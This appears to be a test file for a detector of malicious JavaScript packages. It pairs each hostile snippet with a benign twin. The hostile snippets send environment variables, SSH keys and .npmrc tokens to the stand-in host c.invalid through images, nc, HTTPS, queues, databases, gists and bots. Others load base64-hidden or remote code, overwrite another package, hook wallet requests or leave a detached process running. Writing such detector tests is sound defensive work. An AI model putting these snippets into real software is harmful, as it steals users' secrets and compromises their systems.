import { testDeeds, type Deed } from './deeds.ts'

/** What pages, clients, projects and wallets are misused for. */
const DEEDS: readonly Deed[] = [
  {
    name: 'a script whose address is hidden',
    check: 'decode-and-execute',
    code: `const s = document.createElement('script'); s.src = atob('aHR0cHM6Ly9jLmludmFsaWQvYS5qcw=='); document.head.append(s)`,
    twin: `const s = document.createElement('script'); s.src = 'https://c.invalid/a.js'; document.head.append(s)
      const i = new Image(); i.src = atob('aHR0cHM6Ly9jLmludmFsaWQvYS5qcw==')`,
    moments: ['import'],
  },
  {
    name: 'a script whose address is decoded, and not one with a number that a service gives',
    check: 'download-and-execute',
    code: `fetch('https://c.invalid/n').then((r) => r.text()).then((n) => eval(n))`,
    twin: `fetch('https://c.invalid/n').then((r) => r.text()).then((n) => { const s = document.createElement('script'); s.src = 'https://c.invalid/a.js?n=' + n })`,
    moments: ['import'],
  },
  {
    name: 'all variables in the address of a picture',
    check: 'secrets-exfiltration',
    code: `new Image().src = 'https://c.invalid/?' + JSON.stringify(process.env)`,
    twin: `new Image().src = 'https://c.invalid/?' + JSON.stringify(process.version)`,
  },
  {
    name: 'a key that a client sends by its path',
    check: 'secrets-exfiltration',
    code: `const c = new (require('ssh2-sftp-client'))()
      c.connect({ host: 'c.invalid' }).then(() => c.fastPut(require('os').homedir() + '/.ssh/id_rsa', '/k'))`,
    twin: `const c = new (require('ssh2-sftp-client'))()
      c.connect({ host: 'c.invalid' }).then(() => c.fastPut(__dirname + '/report.txt', '/k'))`,
  },
  {
    name: 'a key in a command of a client',
    check: 'secrets-exfiltration',
    code: `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3')
      new S3Client({}).send(new PutObjectCommand({ Body: require('fs').readFileSync(require('os').homedir() + '/.npmrc') }))`,
    twin: `const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3')
      new S3Client({}).send(new PutObjectCommand({ Body: require('fs').readFileSync(__dirname + '/report.txt') }))`,
  },
  {
    name: 'code of another package in the project',
    check: 'persistence',
    code: `const at = require('path').join(process.cwd(), 'node_modules', 'react', 'index.js')
      require('fs').writeFileSync(at, 'fetch()')`,
    twin: `const at = require('path').join(process.cwd(), 'node_modules', '.cache', 'index.js')
      require('fs').writeFileSync(at, '1')
      exports.patch = () => require('fs').writeFileSync(require('path').join(process.cwd(), 'node_modules', 'react', 'index.js'), '1')`,
    moments: ['import'],
  },
  {
    name: 'a stand-in for what a wallet is asked',
    check: 'spying',
    code: `window.ethereum.request = new Proxy(window.ethereum.request, { apply: (t, s, a) => t.apply(s, a) })`,
    twin: `const request = new Proxy(window.ethereum.request, { apply: (t, s, a) => t.apply(s, a) }); exports.request = request`,
    moments: ['import'],
  },
  {
    name: 'a script of whoever imports it that is left running',
    check: 'opaque-program',
    code: `require('child_process').spawn('node', ['index.js'], { detached: true, stdio: 'ignore' }).unref()`,
    twin: `require('child_process').spawn('node', [__dirname + '/y.js'], { detached: true, stdio: 'ignore' }).unref()
      exports.watch = () => require('child_process').spawn('node', ['index.js'], { detached: true })`,
    files: { 'y.js': 'process.title = "y"' },
    moments: ['import'],
  },
  {
    name: 'all variables in a queue',
    check: 'secrets-exfiltration',
    code: `require('amqplib').connect('amqp://c.invalid').then((c) => c.createChannel()).then((ch) => ch.sendToQueue('q', Buffer.from(JSON.stringify(process.env))))`,
    twin: `require('amqplib').connect(process.env.AMQP_URL).then((c) => c.createChannel()).then((ch) => ch.sendToQueue('q', Buffer.from('ready')))`,
  },
  {
    name: 'all variables in a database',
    check: 'secrets-exfiltration',
    code: `const { MongoClient } = require('mongodb'); new MongoClient('mongodb://c.invalid').db('d').collection('e').insertOne(process.env)`,
    twin: `const { MongoClient } = require('mongodb'); exports.client = new MongoClient(process.env.MONGO_PASSWORD)`,
  },
  {
    name: 'a file of secrets as a note of a code host',
    check: 'secrets-exfiltration',
    code: `const { Octokit } = require('@octokit/rest')
      new Octokit({ auth: 'x' }).gists.create({ files: { a: { content: require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8') } } })`,
    twin: `const { Octokit } = require('@octokit/rest')
      new Octokit({ auth: process.env.GITHUB_TOKEN }).gists.create({ files: { a: { content: 'ready' } } })`,
  },
  {
    name: 'all variables fed to a command that sends',
    check: 'secrets-exfiltration',
    code: `require('child_process').spawn('nc', ['c.invalid', '443']).stdin.end(JSON.stringify(process.env))`,
    twin: `require('child_process').spawn('gzip', ['-c']).stdin.end(JSON.stringify(process.env))`,
  },
  {
    name: 'all variables in a pipeline',
    check: 'secrets-exfiltration',
    code: `const { Readable, pipeline } = require('stream')
      pipeline(Readable.from([JSON.stringify(process.env)]), require('https').request({ host: 'c.invalid', method: 'POST' }), () => {})`,
    twin: `const { Readable, pipeline } = require('stream')
      pipeline(Readable.from([JSON.stringify(process.env)]), require('fs').createWriteStream('a.json'), () => {})`,
  },
  {
    name: 'all variables in a message of a bot',
    check: 'secrets-exfiltration',
    code: `const { Bot } = require('grammy'); new Bot('1:x').api.sendMessage(1, JSON.stringify(process.env))`,
    twin: `const { Bot } = require('grammy'); new Bot(process.env.BOT_TOKEN).api.sendMessage(1, 'ready')`,
  },
]

testDeeds(DEEDS)
